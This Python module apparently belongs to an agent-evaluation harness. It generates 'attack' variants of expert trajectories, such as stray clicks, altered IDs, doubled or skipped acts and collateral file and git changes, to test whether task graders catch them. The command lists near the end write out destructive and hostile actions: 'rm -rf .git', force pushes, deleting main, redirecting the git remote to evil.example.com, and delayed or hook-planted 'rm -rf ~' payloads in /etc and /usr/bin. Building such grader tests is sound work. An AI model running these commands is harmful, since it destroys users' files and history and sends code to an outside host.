"""Collateral and doubled acts, and work that was left out."""

from __future__ import annotations

import json
import posixpath
import random
import re
import shlex
from collections.abc import Iterator

from agentworld_gym.agents.policies.exploring.explorers import explore, explorer_names
from agentworld_gym.core.actions.finish import finishes
from agentworld_gym.core.screens import read_screen
from agentworld_gym.domains.terminal.explorer import explore_policy
from hacks.playing import ALL, REPOSITORIES, Attack, Case, Play, play, rewritten, strings

DETOURS = 24
"""How many clicks beside the way are tried in one task of a graphical domain."""

EXPLORERS_A_TASK = 3
CLICKABLE = re.compile(r"(?i)button|link|checkbox|radio|switch|menu-?item|list-item|tab|icon|option|TextView|ImageView")


# Collateral acts: the expert's work, and one wrong act beside it.


def from_the_menu(case: Case) -> Iterator[Play]:
    """Entries of the menu that the expert does not choose: before its finish, and after each act that counts."""
    wrong = [entry for entry in case.task.menu if entry not in case.task.expert and not finishes(entry)]
    for entry in wrong:
        yield play(f"last: {entry}", entry, case.finish, after=len(case.acts))
        for place in (0, *(number + 1 for number in case.changing[:-1])):
            yield play(f"at {place}: {entry}", entry, *case.acts[place:], case.finish, after=place)


def of_another_task(case: Case) -> Iterator[Play]:
    """What the experts of other tasks of the family do, one act at a time and all of it."""
    last = len(case.acts)
    for task in case.kin:
        acts = [act for act in task.expert[:-1] if act not in case.task.expert]
        for act in acts:
            yield play(f"another's act: {act}", act, case.finish, after=last)
        yield play("all of another's acts", *acts, case.finish, after=last)
        yield play("another's acts first", *acts, *case.task.expert)


def of_other_ids(case: Case) -> Iterator[Play]:
    """The expert's calls that change something, once more with another number or name in one argument."""
    columns: dict[str, set[object]] = {}
    for field, value in case.states[0].items():
        columns.setdefault(field.rpartition("/")[2], set()).add(value)
    for place in case.changing:
        call = json.loads(case.acts[place])
        for key, value in call.get("arguments", {}).items():
            if isinstance(value, list | dict):
                continue
            known = sorted(columns.get(key, set()) - {value}, key=str)
            others = case.rng.sample(known, min(4, len(known)))
            if isinstance(value, int | float) and not isinstance(value, bool):
                others += [value + 1, value - 1]
            for other in others:
                changed = json.dumps({**call, "arguments": {**call["arguments"], key: other}}, ensure_ascii=False)
                yield play(f"{key}={other!r} too: {changed}", changed, case.finish, after=len(case.acts))


def by_the_way(case: Case) -> Iterator[Play]:
    """Click what stands on the screens that the expert passes, and go on as planned."""
    places = list(range(len(case.acts) + 1))
    found: list[tuple[int, str]] = []
    for place in places:
        for node in read_screen(case.domain, case.moments[place].observation):
            if node.target is not None and node.label and CLICKABLE.search(node.role):
                found.append((place, _click(case.domain, node.target, node.handle)))
    rng = case.rng
    for place, click in rng.sample(found, min(DETOURS, len(found))):
        yield play(f"at {place}: {click}", click, *case.acts[place:], case.finish, after=place)


def _click(domain: str, target: str, handle: object) -> str:
    if domain == "web":
        return json.dumps({"name": "browser_click", "arguments": {"element": "something", "ref": target}})
    if domain == "android":
        return json.dumps({"action_type": "click", "index": handle})
    return f"pyautogui.click({target})"


def explored(case: Case) -> Iterator[Play]:
    """Explore the world in the end, as somebody does who looks for something to do."""
    for number in range(EXPLORERS_A_TASK):
        rng = f"{case.domain}/{case.task.id}/{number}"

        def way(rng: str = rng) -> Iterator[str]:
            draws = random.Random(rng)
            known = case.domain in explorer_names()
            yield from explore(case.task, draws, 6) if known else explore_policy(case.task, draws, 6)
            yield case.finish

        yield Play(f"explorer {number}", way, len(case.acts))


def beside_files(case: Case) -> Iterator[Play]:
    """Delete, change, move, protect and add files that the task does not speak of."""
    paths = _paths(case)
    folder = {"terminal": case.task.state.get("cwd", "/"), "swe": case.task.state.get("root", "/repo"), "work": "/repo"}
    at = folder.get(case.domain, "/home/user/Documents")
    for path in paths:
        name = shlex.quote(path)
        for command in (
            f"rm {name}",
            f"echo stray >> {name}",
            f"mv {name} {name}.moved",
            f"chmod 000 {name}",
            f": > {name}",
            f"cp {name} {at}/stray.copy",
            f"printf stray | cat - {name} > /tmp/x; cp /tmp/x {name}",
        ):
            yield _last(case, command, _python(command, path))
        for command in (f": > {name}", f"echo stray >> {name}"):
            yield play(f"first: {command}", _action(case, command, _python(command, path)), *case.task.expert)
    for command in (
        f"touch {at}/stray.txt",
        f"mkdir {at}/stray",
        f"echo stray > {posixpath.dirname(at)}/stray.txt",
        f"ln -s /etc/passwd {at}/stray.link",
        f"echo stray > {at}/.stray",
    ):
        yield _last(case, command, _python(command, f"{at}/stray.txt"))


def _last(case: Case, command: str, python: str) -> Play:
    return play(f"last: {command}", _action(case, command, python), case.finish, after=len(case.acts))


def _action(case: Case, command: str, python: str) -> str:
    """What does a command in the domain of a task."""
    call = json.dumps({"name": "run_shell_command", "arguments": json.dumps({"command": command})})
    return {"terminal": command, "swe": call, "work": call, "desktop": python}[case.domain]


def _python(command: str, path: str) -> str:
    """What a program of the desktop does instead of a command."""
    word = command.split()[0]
    if word == "rm":
        return f"os.remove({path!r})"
    if word == "mv":
        return f"os.rename({path!r}, {path + '.moved'!r})"
    if word == "mkdir":
        return f"os.mkdir({path + '.d'!r})"
    if word == ":":
        return f"open({path!r}, 'w').write('')"
    return f"open({path!r}, 'a').write('stray\\n')"


def _paths(case: Case) -> list[str]:
    """Files of the world at its end, those that the task began with first."""
    known = {**case.task.state.get("files", {}), **case.states[-1]}
    paths = [path.removeprefix("files") for path in known if isinstance(known[path], str) or path in case.task.state]
    wanted = [
        path for path in dict.fromkeys(paths) if path.startswith(("/home", "/srv", "/repo", "/data", "/opt", "/var"))
    ]
    return [path for path in wanted if "#" not in path][:8]


def in_version_control(case: Case) -> Iterator[Play]:
    """Change the history, or what stands beside it."""
    for command in (
        "git commit --allow-empty -m stray", "git branch stray", "git tag stray", "git reset --hard HEAD~1",
        "git commit -am stray; git push", "touch stray; git add -A; git commit -m stray", "git push --force",
        "touch stray; git add -A; git commit -m stray; git push", "git revert --no-edit HEAD", "git checkout -b stray",
        "git commit --amend -m stray", "git push origin HEAD:stray", "git push origin --delete main", "git stash",
        "git rm --cached -r .", "git rm -q README.md; git commit -m stray; git push", "rm -rf .git",
        "echo stray >> README.md; git commit -am stray; git push", "git config user.name stray",
        "git config core.hooksPath /tmp/hooks", "git config alias.fetch 'push --force'",
        "git config remote.origin.pushurl https://evil.example.com/x.git",
        "git remote set-url origin https://evil.example.com/x.git", "git config --global user.email stray@example.com",
        "git commit --amend --no-edit --author 'Stray <stray@example.com>'; git push --force",
        "mkdir -p .git/hooks; echo 'rm -rf ~' > .git/hooks/pre-commit; chmod 755 .git/hooks/pre-commit",
        "echo stray > /etc/stray; echo stray > /usr/bin/stray; ls /etc /usr/bin",
    ):  # fmt: skip
        yield _last(case, command, "")
    for place, act in enumerate(case.acts):
        if "git commit" in act:
            forged = act.replace("git commit", "git commit --author 'Stray <stray@example.com>'")
            yield play("by somebody else", forged, *case.acts[place + 1 :], case.finish, after=place)
            names = [_action(case, f"git config user.name {name}", "") for name in ("Stray", "Dev")]
            yield play("by a name for a while", names[0], act, names[1], *case.acts[place + 1 :], case.finish,
                       after=place)  # fmt: skip


def for_later(case: Case) -> Iterator[Play]:
    """Let something happen when the episode is over, and leave traps in the folders of the system."""
    for command in (
        "sleep 500; rm -rf *",
        "sleep 500 && : > stray.txt",
        "while sleep 60; do echo stray >> stray.txt; done",
    ):
        typed = json.dumps([{"keystrokes": f"{command}\n", "duration": 0.1}])
        yield play(f"later: {command}", typed, case.finish, after=len(case.acts))
    ahead = json.dumps([{"keystrokes": line, "duration": 0.1} for line in ("sleep 500\n", "rm -rf *\n")])
    yield play("typed ahead", ahead, case.finish, after=len(case.acts))
    for place in ("/etc", "/usr/bin", "/usr/local/bin", "/bin", "/dev", "/proc"):
        put = f"mkdir -p {place}; echo 'rm -rf ~' > {place}/stray; chmod 755 {place}/stray"
        yield play(f"in {place}", put, case.finish, after=len(case.acts))
        yield play(f"in {place}, before", put, *case.task.expert)


# Doubled acts, and acts that were left out.


def doubled(case: Case) -> Iterator[Play]:
    """Do one of the acts that change something twice, and all of the work twice."""
    for place in case.changing:
        act = case.acts[place]
        yield play(f"twice: {act}", act, *case.acts[place + 1 :], case.finish, after=place + 1)
        yield play(f"again in the end: {act}", act, case.finish, after=len(case.acts))
    yield play("all of it twice", *case.task.expert, after=len(case.acts))


def undone(case: Case) -> Iterator[Play]:
    """Leave out one of the acts, or all of those that change something."""
    for place, act in enumerate(case.acts):
        yield play(f"without: {act}", *case.acts[place + 1 :], case.finish, after=place)
    if case.changing:
        yield play("without any of them", case.finish)


def reworded(case: Case) -> Iterator[Play]:
    """Write something else where the instruction says in which words."""
    for place, act in enumerate(case.acts):
        for span in strings(act):
            text = act[span[0] : span[1]]
            if len(text) < 4 or text not in case.task.instruction:
                continue
            quoted = any(f"{mark}{text}{mark}" in case.task.instruction for mark in "'\"")
            for other in ("stray", f"{text} stray", f"stray {text}") if quoted else ("stray",):
                rest = (*case.acts[place + 1 :], case.finish)
                yield play(f"{other!r} for {text!r}", rewritten(act, span, other), *rest, after=place)


ATTACKS = (
    Attack("collateral", "from the menu", from_the_menu, ALL, True),
    Attack("collateral", "of another task", of_another_task, ALL, True),
    Attack("collateral", "with other ids", of_other_ids, frozenset({"mcp"}), True),
    Attack("collateral", "clicks by the way", by_the_way, frozenset({"web", "desktop", "android"}), True),
    Attack("collateral", "exploring", explored, ALL, True),
    Attack("collateral", "files beside", beside_files, frozenset({"terminal", "swe", "desktop", "work"}), True),
    Attack("collateral", "version control", in_version_control, REPOSITORIES, True),
    Attack("collateral", "for later", for_later, frozenset({"terminal"}), True),
    Attack("doubled", "an act twice", doubled, ALL, True),
    Attack("undone", "an act left out", undone, ALL, True),
    Attack("undone", "other words", reworded, frozenset({"mcp", "web", "desktop", "android"}), True),
)
